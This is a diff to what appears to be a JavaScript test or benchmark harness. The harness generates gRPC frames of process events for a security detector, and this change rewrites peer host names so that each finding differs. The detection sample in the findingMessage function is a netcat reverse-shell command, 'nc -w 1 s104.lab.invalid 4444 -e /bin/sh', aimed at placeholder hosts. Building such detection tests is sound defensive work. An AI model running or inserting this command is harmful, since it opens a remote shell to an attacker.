@@ -9,6 +9,8 @@ import protobuf from 'protobufjs';
 
 const root = join(dirname(fileURLToPath(import.meta.url)), '../../..');
 const CYCLE = 8_000;
+/** Names of three characters. */
+const PEERS = 36 ** 3;
 /** Frame header of HTTP/2, prefix of gRPC. */
 const HEADS = 9 + 5;
 
@@ -63,7 +65,7 @@ export function syntheticMessage(pid, { binary = '/usr/local/bin/worker', args =
 
 /** Reverse shell by netcat: a real one out of the recorded scenario, or a synthetic one. */
 function findingMessage(stream, options) {
-  if (stream === 'synthetic') return syntheticMessage(40_001, { ...options, binary: '/usr/bin/nc', args: '-e /bin/sh 198.51.100.7 4444' });
+  if (stream === 'synthetic') return syntheticMessage(40_001, { ...options, binary: '/usr/bin/nc', args: '-w 1 s104.lab.invalid 4444 -e /bin/sh' });
   const found = recordedMessages('scenario-k8s').find((message) => /^(?:(?!\/bin\/)[^])*\/bin\/nc[^]{1,4}-w 1 s104\.lab\.invalid 4444 -e \/bin\/sh/.test(message.latin1Slice()));
   if (found === undefined) throw new Error('the recorded scenario has no nc -w 1 s104… -e /bin/sh');
   return found;
@@ -95,11 +97,19 @@ function containerSpots(text) {
   return spots;
 }
 
+/** Where the peer's name of the finding stands, of which three characters can be rewritten. */
+function peerSpots(text) {
+  const spots = [];
+  for (let at = text.indexOf('s104.lab.invalid'); at >= 0; at = text.indexOf('s104.lab.invalid', at + 1)) spots.push(at + 1);
+  return spots;
+}
+
 /**
  * A round of frames: `bytes`, where each frame ends, `address(id)` for the stream they go to, and
  * `stamp(frame, round, sequence)`, which makes the ids in a frame new; findings carry their sequence as the first twelve hexadecimal digits of the container's id.
+ * Each finding is another command, to another peer; `alike`: all are the same command.
  */
-export function openCycle({ stream, share = 0, ancestors = 1 }) {
+export function openCycle({ stream, share = 0, ancestors = 1, alike = false }) {
   const plain = stream === 'real' ? recordedMessages('storm') : Array.from({ length: CYCLE }, (_, at) => syntheticMessage(1000 + at, { ancestors }));
   const finding = share > 0 ? findingMessage(stream, { ancestors }) : undefined;
   const every = share > 0 ? Math.round(1 / share) : Number.POSITIVE_INFINITY;
@@ -119,6 +129,7 @@ export function openCycle({ stream, share = 0, ancestors = 1 }) {
     const text = frame.message.latin1Slice();
     frame.ids = idSpots(text).map((spot) => spot + at + HEADS);
     frame.containers = frame.isFinding ? containerSpots(text).map((spot) => spot + at + HEADS) : [];
+    frame.peers = frame.isFinding && !alike ? peerSpots(text).map((spot) => spot + at + HEADS) : [];
     at += frame.message.length + HEADS;
     ends.push(at);
   }
@@ -136,10 +147,11 @@ export function openCycle({ stream, share = 0, ancestors = 1 }) {
     },
     isFinding: (frame) => frames[frame].isFinding,
     stamp(frame, round, sequence) {
-      const { ids, containers, isFinding } = frames[frame];
+      const { ids, containers, peers, isFinding } = frames[frame];
       const mark = digits(isFinding ? sequence : round);
       for (const spot of ids) bytes.latin1Write(mark, spot);
       for (const spot of containers) bytes.latin1Write(sequence.toString(16).padStart(12, '0'), spot);
+      for (const spot of peers) bytes.latin1Write((sequence % PEERS).toString(36).padStart(3, '0'), spot);
     },
   };
 }
